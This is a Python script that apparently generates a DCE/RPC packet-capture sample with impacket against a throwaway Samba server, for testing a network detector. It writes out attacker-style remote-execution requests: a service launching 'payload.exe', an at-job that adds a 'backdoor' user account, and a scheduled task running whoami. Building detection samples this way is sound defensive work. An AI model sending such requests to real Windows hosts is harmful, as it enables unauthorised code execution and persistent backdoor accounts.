#!/usr/bin/python3
# DCE/RPC calls for samples/dcerpc-sample.pcap, made with impacket (Debian's python3-impacket)
# against the throwaway Samba of scripts/make-dcerpc-sample.sh. Samba serves svcctl and srvsvc
# but not atsvc or tsch (the \atsvc pipe does not exist), so those two interfaces are offered by
# an Alter Context on the \svcctl pipe: Samba rejects the context and faults the call
# (nca_s_unk_if), but the request, with its arguments, is on the wire as an attacker sends it.
# Usage: dcerpc-calls.py ADDR USER PASSWORD
import sys
from impacket.dcerpc.v5 import transport, atsvc, tsch, scmr, srvs, rpcrt
from impacket.dcerpc.v5.dtypes import NULL

addr, user, password = sys.argv[1:4]


def connect(pipe):
    t = transport.SMBTransport(addr, 445, pipe, username=user, password=password)
    d = t.get_dce_rpc()
    d.connect()
    return t, d


def call(what, f):
    try:
        f()
        print(what, 'ok')
    except Exception as e:  # Samba's refusals are expected; the request was sent
        print(what, 'refused:', e)


# svcctl: the Bind cut across SMB writes of 48 bytes (one PDU in three pipe writes), then
# OpenSCManagerW + CreateServiceW with requests cut into DCERPC fragments of 64 stub bytes
t, d = connect(r'\svcctl')
t.set_max_fragment_size(48)
d.bind(scmr.MSRPC_UUID_SCMR)
t.set_max_fragment_size(0)
d.set_max_fragment_size(64)
def create_service():
    # the access Samba grants an ordinary user on the SCM (MS-SCMR §3.1.4: connect, enumerate)
    try:
        h = scmr.hROpenSCManagerW(d, dwDesiredAccess=scmr.SC_MANAGER_CONNECT | scmr.SC_MANAGER_ENUMERATE_SERVICE)['lpScHandle']
    except rpcrt.DCERPCException as e:
        print('OpenSCManagerW refused:', e)
        h = b'\0' * 20
    scmr.hRCreateServiceW(d, h, 'smbwatchsvc\x00', 'smbwatch test service\x00',
                          lpBinaryPathName='%COMSPEC% /c C:\\Windows\\Temp\\payload.exe -install\x00')
call('svcctl CreateServiceW', create_service)
d.disconnect()

# a second pipe, whole fragments: Samba would drop the rest of a fragmented call it faults
t, d = connect(r'\svcctl')
d.bind(scmr.MSRPC_UUID_SCMR)
# atsvc NetrJobAdd and tsch SchRpcRegisterTask, offered by Alter Context on the same pipe
def rejected_context(uuid, ctx):
    # the Alter Context PDU cut across SMB writes of 40 bytes too
    d.set_ctx_id(ctx)
    t.set_max_fragment_size(40)
    try:
        d.bind(uuid, alter=1)
    except rpcrt.DCERPCException as e:
        print('alter context', ctx, 'refused:', e)
    t.set_max_fragment_size(0)
    d.set_ctx_id(ctx)

rejected_context(atsvc.MSRPC_UUID_ATSVC, 1)
def job_add():
    req = atsvc.NetrJobAdd()
    req['ServerName'] = NULL
    req['pAtInfo']['JobTime'] = 0
    req['pAtInfo']['DaysOfMonth'] = 0
    req['pAtInfo']['DaysOfWeek'] = 0
    req['pAtInfo']['Flags'] = 0
    req['pAtInfo']['Command'] = 'cmd.exe /c net user backdoor Passw0rd! /add\x00'
    d.request(req)
call('atsvc NetrJobAdd', job_add)

rejected_context(tsch.MSRPC_UUID_TSCHS, 2)
xml = ('<?xml version="1.0" encoding="UTF-16"?><Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">'
       '<Actions Context="Author"><Exec><Command>cmd.exe</Command>'
       '<Arguments>/C whoami &gt; C:\\Windows\\Temp\\out.txt</Arguments></Exec></Actions></Task>')
call('tsch SchRpcRegisterTask',
     lambda: tsch.hSchRpcRegisterTask(d, '\\smbwatchtask\x00', xml + '\x00', tsch.TASK_CREATE, NULL, tsch.TASK_LOGON_NONE))
d.disconnect()

# srvsvc NetrShareEnum with responses cut into fragments: the Bind offers max_recv_frag 1024
orig = rpcrt.MSRPCBind.__init__
def small_recv(self, data=None, alignment=0):
    orig(self, data, alignment)
    if data is None:
        self['max_rfrag'] = 1024
rpcrt.MSRPCBind.__init__ = small_recv
t, d = connect(r'\srvsvc')
d.bind(srvs.MSRPC_UUID_SRVS)
call('srvsvc NetrShareEnum (fragmented response)', lambda: srvs.hNetrShareEnum(d, 1))
d.disconnect()
